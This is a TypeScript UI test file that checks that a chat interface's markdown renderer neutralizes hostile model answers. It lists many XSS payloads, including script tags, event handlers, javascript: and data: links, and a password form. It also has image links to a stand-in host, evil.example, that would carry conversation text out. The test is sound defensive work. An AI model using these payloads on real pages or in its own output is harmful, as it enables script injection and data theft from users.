import { answers } from '../../kit/ui/chat-steps.ts';
import { expect, test } from '../../kit/ui/kit.ts';
import { showAnswer } from '../../kit/ui/steps/markdown.ts';

const HARM: readonly string[] = [
  '"><script>window.hit=1</script>',
  '<script src=https://evil.example/x.js></script>',
  '<img src=x onerror="window.hit=1">',
  '<img src="https://evil.example/t.png?what=was-said">',
  '![said](https://evil.example/t.png)',
  '![said][late]',
  '<svg onload="window.hit=1"><script>window.hit=1</script><a xlink:href="javascript:window.hit=1">s</a></svg>',
  '<math><mtext><img src=x onerror=window.hit=1></mtext></math>',
  '<iframe src="https://evil.example" srcdoc="<script>parent.hit=1</script>"></iframe>',
  '<object data="https://evil.example"></object><embed src="https://evil.example">',
  '<form action="https://evil.example"><button>Sign in</button><input name=password></form>',
  '<style>body{display:none}</style><link rel=stylesheet href=https://evil.example/a.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<b onclick="window.hit=1" style="position:fixed;inset:0" id="root" class="x">bold</b>',
  '<details open ontoggle="window.hit=1"><summary>s</summary>d</details>',
  '<video src=https://evil.example/v autoplay></video><audio src=https://evil.example/a autoplay></audio>',
  '<a href="javascript:window.hit=1">a</a> <a href="&#106;avascript:window.hit=1">a</a>',
  '[a](javascript:window.hit=1) [b](JaVaScRiPt:window.hit=1) [c](java&#9;script:window.hit=1)',
  '[d](data:text/html,<script>window.hit=1</script>) [e](vbscript:x) [f](file:///etc/passwd)',
  '[g](//evil.example) [h](/settings) [i](https://user:word@evil.example) <javascript:window.hit=1>',
  String.raw`$\href{javascript:window.hit=1}{x}$ $\htmlStyle{position:fixed}{x}$ $\includegraphics{https://evil.example/x.png}$`,
  String.raw`$$\def\a{\a\a}\a$$`,
  '| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |',
  '```html\n<script>window.hit=1</script>\n```',
  '```"><img src=x onerror=window.hit=1>\ncode\n```',
  '[^x]\n\n[^x]: <img src=x onerror=window.hit=1> [n](javascript:window.hit=1)',
  '[late]: javascript:window.hit=1',
];

test('an answer cannot run, load or navigate anything in the page', async ({ page, harness }) => {
  await showAnswer(harness, page, HARM.join('\n\n'));
  await expect(answers(page).getByRole('link', { name: 'image: said' })).toBeVisible();
  await expect(answers(page).getByRole('list', { name: 'Notes' })).toBeVisible();
  const found = await page.evaluate(() => {
    const answer = [...document.querySelectorAll('article')].at(-1);
    const all = [...(answer?.querySelectorAll<HTMLElement>('*') ?? [])];
    return {
      hit: Reflect.get(globalThis, 'hit') ?? null,
      elements: all.filter((element) =>
        element.matches('script,img,iframe,object,embed,form,style,link,meta,base,video,audio'),
      ).length,
      handlers: all.filter((element) =>
        element.getAttributeNames().some((name) => name.startsWith('on')),
      ).length,
      roots: document.querySelectorAll('#root').length,
      out: all
        .flatMap((element) => (element instanceof HTMLAnchorElement ? [element] : []))
        .filter(({ origin, target }) => origin !== location.origin || target === '_blank')
        .map(({ origin, rel, target }) => `${origin} ${rel} ${target}`),
    };
  });
  const { out, ...rest } = found;
  expect(rest).toEqual({ hit: null, elements: 0, handlers: 0, roots: 1 });
  expect([...new Set(out)]).toEqual(['https://evil.example noopener noreferrer _blank']);
});
